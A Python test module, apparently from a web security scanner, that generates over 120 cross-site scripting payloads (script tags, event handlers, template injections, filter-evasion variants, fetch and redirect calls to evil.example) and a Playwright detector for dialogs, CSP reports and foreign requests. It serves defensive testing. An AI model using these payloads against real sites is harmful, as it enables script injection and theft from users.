"""XSS payloads, and a detector in the browser: dialogs, CSP reports, foreign requests (row 41)."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page, sync_playwright

from probes.browser import ARGS

MARK = "kenari-xss"
CALLS = ("window.__ran=1", "alert(1)", "fetch('http://evil.example/x')")
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>",
    "<a href=javascript:{} autofocus>x</a>",
    "<style>@keyframes x{{}}*{{animation-name:x}}</style><b onanimationstart={}>x</b>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "`-{}-`",
    '\\"-{}-\\"',
    "</style><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</script>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror\n={}>",
)
TEMPLATES = (
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    '{{"$$typeof":1,"type":"script","props":{{"children":"{}"}}}}',
    '{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={}>"}}}}',
    "<base href=http://evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{}'>",
    "<link rel=stylesheet href=http://evil.example/{}.css>",
    "<img src=http://evil.example/{}.png>",
)
PRINTED = (
    "<b>tebal</b>",
    "<font color=red>x",
    "<img src='/etc/passwd'>",
    "\\(x\\) Tj (",
    "%PDF-1.7",
)


def payloads() -> list[str]:
    """More than 120 texts, each of which would run, load or change a page somewhere."""
    made = [shape.format(call) for call in CALLS for shape in (*ELEMENTS, *TEMPLATES)]
    return [f"{MARK} {text}" for text in (*made, *PRINTED)]


@dataclass
class XssSigns:
    """What a page did that it must not do."""

    dialogs: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)
    reports: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    pages: int = 0
    marked: int = 0  # pages on which payloads could be read: so the attack did arrive

    @property
    def all(self) -> list[str]:
        return [*self.dialogs, *self.ran, *self.reports, *self.foreign]


WATCH = """
window.__reports = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__reports.push(event.effectiveDirective + ' ' + event.blockedURI);
});
"""


def watch(page: Page, seen: XssSigns, host: str) -> None:
    """Look at this page from now on."""
    page.add_init_script(WATCH)
    page.on("dialog", lambda dialog: _dismiss(dialog, page, seen))
    page.on("request", lambda request: _note(request.url, host, seen))


def _dismiss(dialog: Any, page: Page, seen: XssSigns) -> None:
    seen.dialogs.append(f"dialog at {page.url}")
    dialog.dismiss()


def _note(url: str, host: str, seen: XssSigns) -> None:
    parts = urlsplit(url)
    if parts.scheme in ("http", "https", "ws", "wss") and parts.netloc != host:
        seen.foreign.append(f"request to {parts.netloc}")


def collect_signs(page: Page, seen: XssSigns) -> None:
    """What became of the page by now."""
    seen.pages += 1
    if page.evaluate("() => window.__ran") is not None:
        seen.ran.append(f"a payload ran at {page.url}")
    reports = page.evaluate("() => window.__reports || []")
    seen.reports += [f"{report} at {page.url}" for report in reports]
    seen.marked += MARK in page.locator("body").inner_text()


_shared: list[Browser] = []


def set_browser(browser: Browser) -> None:
    """Work in this browser, which somebody else opens and closes (the tests do)."""
    _shared[:] = [browser]


@contextmanager
def browser() -> Iterator[Browser]:
    """A Chromium without a window."""
    if _shared:
        yield _shared[0]
        return
    with sync_playwright() as playwright:
        path = "/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None
        opened = playwright.chromium.launch(executable_path=path, args=ARGS)
        yield opened
        opened.close()
